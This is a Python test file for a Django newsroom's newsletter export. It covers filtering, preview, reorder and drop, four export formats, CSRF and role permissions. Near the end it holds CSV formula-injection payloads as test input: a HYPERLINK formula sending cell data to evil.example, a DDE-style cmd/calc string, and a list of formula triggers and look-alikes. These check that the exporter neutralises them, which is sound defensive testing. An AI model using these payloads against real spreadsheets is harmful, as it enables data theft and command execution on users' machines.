"""Newsletter export: filters, preview, reorder and drop, four formats, streaming, permissions."""

import csv
import io
import re
from datetime import datetime
from datetime import timezone as dt_timezone

import pytest
from django.test import Client

from rewrites.models import PublishedStory
from rewrites.publishing.publish import publish_rewrite
from rewrites.records import import_record
from tests.factories import approved_record
from tests.publishing_helpers import set_domain

pytestmark = pytest.mark.django_db

JAPANESE = "「葬送のフリーレン」第2期、2027年1月放送開始"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def published(seed, editor, *, number, headline, blurb, when, domain="anime", content_type="news", source="GIGAZINE"):
    record = set_domain(approved_record(seed, number=number, headline=headline, newsletterBlurb=blurb),
                        domain=domain, content_type=content_type)
    for entry in record["attribution"]:
        entry["source"] = source
    rewrite, _ = import_record(record)
    publish_rewrite(rewrite_id=rewrite.id, user=editor)
    PublishedStory.objects.filter(rewrite=rewrite).update(published_at=when)
    return rewrite


@pytest.fixture
def stories(seed_record, editor):
    day = lambda d, h=12: datetime(2026, 7, d, h, tzinfo=dt_timezone.utc)  # noqa: E731
    return [
        published(seed_record, editor, number=61, headline=f"Frieren season 2 {JAPANESE}",
                  blurb=f"Madhouse returns. {JAPANESE}", when=day(3), source="ナタリー"),
        published(seed_record, editor, number=62, headline="Alibaba bans Claude Code",
                  blurb="Staff must use qoder.", when=day(4), domain="tech"),
        published(seed_record, editor, number=63, headline="One Piece hits 1,200 chapters",
                  blurb="A milestone for the manga.", when=day(5), content_type="feature"),
        published(seed_record, editor, number=64, headline="Outside the range",
                  blurb="Too old.", when=day(1)),
    ]


def staff_client(staff) -> Client:
    client = Client(enforce_csrf_checks=True)
    client.force_login(staff)
    return client


def form_fields(html: str) -> dict:
    fields = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', html))
    fields["csrfmiddlewaretoken"] = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)
    return fields


def preview_headlines(html: str) -> list[str]:
    return re.findall(r'<a class="headline" href="[^"]+">([^<]+)</a>', html)


def test_preview_shows_the_blurbs_in_the_range_newest_first(stories, staff):
    page = staff_client(staff).get("/newsletter/", {"date_from": "2026-07-02", "date_to": "2026-07-05"})

    html = page.content.decode()
    assert page.status_code == 200
    assert preview_headlines(html) == [
        "One Piece hits 1,200 chapters", "Alibaba bans Claude Code", f"Frieren season 2 {JAPANESE}",
    ]
    assert "http://testserver/stories/varied-record-61/" in html and "Source: ナタリー" in html


def test_filters_by_domain_and_content_type(stories, staff):
    client = staff_client(staff)
    dates = {"date_from": "2026-07-01", "date_to": "2026-07-05"}

    tech = client.get("/newsletter/", {**dates, "domain": "tech"}).content.decode()
    features = client.get("/newsletter/", {**dates, "content_type": "feature"}).content.decode()

    assert preview_headlines(tech) == ["Alibaba bans Claude Code"]
    assert preview_headlines(features) == ["One Piece hits 1,200 chapters"]


def test_invalid_dates_say_what_to_fix(staff):
    page = staff_client(staff).get("/newsletter/", {"date_from": "July 4", "date_to": "2026-07-05"})

    assert page.status_code == 400
    assert "use the form YYYY-MM-DD" in page.content.decode()


def test_reorder_and_drop_with_htmx_then_every_format_exports_what_the_preview_shows(stories, staff):
    client = staff_client(staff)
    html = client.get("/newsletter/", {"date_from": "2026-07-02", "date_to": "2026-07-05"}).content.decode()
    fields = form_fields(html)
    frieren, alibaba, one_piece = stories[0].id, stories[1].id, stories[2].id

    for _ in range(2):
        moved = client.post("/newsletter/", {**fields, "move": f"up:{frieren}"}, HTTP_HX_REQUEST="true").content.decode()
        fields = {**form_fields(moved), "csrfmiddlewaretoken": fields["csrfmiddlewaretoken"]}
    dropped = client.post("/newsletter/", {**fields, "drop": alibaba}, HTTP_HX_REQUEST="true").content.decode()
    fields = {**form_fields(dropped), "csrfmiddlewaretoken": fields["csrfmiddlewaretoken"]}

    assert not dropped.lstrip().startswith("<!doctype")
    shown = preview_headlines(dropped)
    assert shown == [f"Frieren season 2 {JAPANESE}", "One Piece hits 1,200 chapters"]
    assert fields["order"] == f"{frieren},{one_piece}"

    exports = {}
    for chosen in ["markdown", "html", "text", "csv"]:
        response = client.post("/newsletter/export/", {**fields, "format": chosen})
        assert response.status_code == 200 and response.streaming
        exports[chosen] = b"".join(response.streaming_content).decode("utf-8")
        extension = {"markdown": "md", "html": "html", "text": "txt", "csv": "csv"}[chosen]
        assert response["Content-Disposition"] == (
            f'attachment; filename="newsletter-2026-07-02-to-2026-07-05.{extension}"'
        )

    url = "http://testserver/stories/varied-record-61/"
    markdown = exports["markdown"]
    assert markdown.index(JAPANESE) < markdown.index("One Piece hits 1,200 chapters")
    assert f"## [Frieren season 2 {JAPANESE}]({url})" in markdown
    assert f"Madhouse returns. {JAPANESE}" in markdown and "*Source: ナタリー*" in markdown
    assert "Alibaba" not in markdown

    text = exports["text"]
    assert text.index(f"Frieren season 2 {JAPANESE}") < text.index("One Piece")
    assert url in text and "Source: ナタリー" in text and "Alibaba" not in text

    email = exports["html"]
    assert f'<a href="{url}"' in email and f"Frieren season 2 {JAPANESE}" in email
    assert "<style" not in email and "<script" not in email and "<table" in email and 'style="' in email
    assert "Alibaba" not in email and email.index("Frieren") < email.index("One Piece")

    rows = list(csv.DictReader(io.StringIO(exports["csv"].removeprefix("\ufeff"))))
    assert [row["headline"] for row in rows] == shown
    assert rows[0]["blurb"] == f"Madhouse returns. {JAPANESE}"
    assert rows[0]["url"] == url and rows[0]["source_credit"] == "Source: ナタリー"


def test_export_without_a_chosen_order_includes_every_matching_story(stories, staff):
    client = staff_client(staff)
    token = form_fields(client.get("/newsletter/").content.decode())["csrfmiddlewaretoken"]

    response = client.post(
        "/newsletter/export/",
        {"date_from": "2026-07-01", "date_to": "2026-07-05", "format": "csv", "csrfmiddlewaretoken": token},
    )

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode().removeprefix("\ufeff"))))
    assert len(rows) == 4 and rows[-1]["headline"] == "Outside the range"


def test_killed_stories_are_not_exported(stories, staff, editor):
    from rewrites.publishing.publish import unpublish_rewrite

    unpublish_rewrite(rewrite_id=stories[1].id, user=editor, reason="Wrong.")
    html = staff_client(staff).get("/newsletter/", {"date_from": "2026-07-01", "date_to": "2026-07-05"}).content.decode()

    assert "Alibaba" not in html


def test_export_refuses_a_post_without_the_csrf_token(stories, staff):
    response = staff_client(staff).post(
        "/newsletter/export/", {"date_from": "2026-07-01", "date_to": "2026-07-05", "format": "csv"}
    )

    assert response.status_code == 403


def test_an_unknown_format_is_refused_with_the_choices(stories, staff):
    client = Client()
    client.force_login(staff)

    response = client.post("/newsletter/export/", {"format": "pdf"})

    assert response.status_code == 400 and "markdown, html, text, csv" in response.content.decode()


@pytest.mark.parametrize("role, expected", [("staff", 200), ("editor", 200), ("admin_user", 200), ("nobody", 403)])
def test_newsletter_is_for_staff_editors_and_admins(request, role, expected):
    client = Client()
    client.force_login(request.getfixturevalue(role))

    assert client.get("/newsletter/").status_code == expected
    assert client.post("/newsletter/export/", {"format": "csv"}).status_code == (expected if expected == 403 else 200)


def test_the_newsletter_link_shows_only_to_those_who_may_export(staff, nobody):
    client = Client()
    client.force_login(staff)
    assert 'href="/newsletter/"' in client.get("/").content.decode()
    client.force_login(nobody)
    assert 'href="/newsletter/"' not in client.get("/", follow=True).content.decode()


def test_anonymous_visitors_are_sent_to_log_in():
    response = Client().get("/newsletter/")

    assert response.status_code == 302 and "login" in response["Location"]


FORMULA_HEADLINE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Frieren season 2 confirmed")'


def test_csv_export_neutralises_a_headline_a_spreadsheet_would_run_as_a_formula(seed_record, editor, staff):
    published(seed_record, editor, number=71, headline=FORMULA_HEADLINE, blurb="@SUM(1+1)*cmd|' /C calc'!A0",
              when=datetime(2026, 7, 3, 12, tzinfo=dt_timezone.utc))
    client = staff_client(staff)
    token = form_fields(client.get("/newsletter/").content.decode())["csrfmiddlewaretoken"]

    response = client.post(
        "/newsletter/export/",
        {"date_from": "2026-07-01", "date_to": "2026-07-05", "format": "csv", "csrfmiddlewaretoken": token},
    )

    text = b"".join(response.streaming_content).decode().removeprefix("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["headline"] == "'" + FORMULA_HEADLINE
    assert rows[0]["blurb"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert ',"=' not in text and ',=' not in text


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tTAB", "\rCR",
     # Look-alikes that some spreadsheet programs read as the trigger they resemble, and whitespace before one.
     "\uff1d1+1", "\uff0b1", "\uff0d1+2", "\uff20SUM(A1)", "\ufe661+1", "\ufe621", "\ufe631", "\ufe6bSUM(A1)",
     "\u22121+2", " =1+1", "\u00a0=1+1", "\u3000\uff1d1+1", "\n=1+1", "\u200b=1+1", "\ufeff+1"],
)
def test_every_formula_trigger_is_neutralised(cell):
    from newsroom.csv_safety import SafeCsvWriter

    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow([cell, "plain", 3, -4])

    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + cell, "plain", "3", "-4"]


@pytest.mark.parametrize("cell", ["plain", "Tanaka – 3 goals", " spaced words", "", "2026-12-07", "＃1 hit"])
def test_text_that_no_spreadsheet_runs_is_written_as_it_is(cell):
    from newsroom.csv_safety import neutralise_cell

    assert neutralise_cell(cell) == cell
